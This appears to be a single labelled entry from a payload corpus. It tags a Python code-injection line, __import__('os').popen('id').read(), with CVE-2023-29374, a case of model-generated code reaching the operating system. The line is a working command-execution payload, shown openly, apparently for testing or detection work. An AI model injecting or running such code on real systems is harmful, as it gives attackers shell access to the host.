# class: lineage
# mechanism: CVE-2023-29374: code from a model
# reaches: os
__import__("os").popen("id").read()
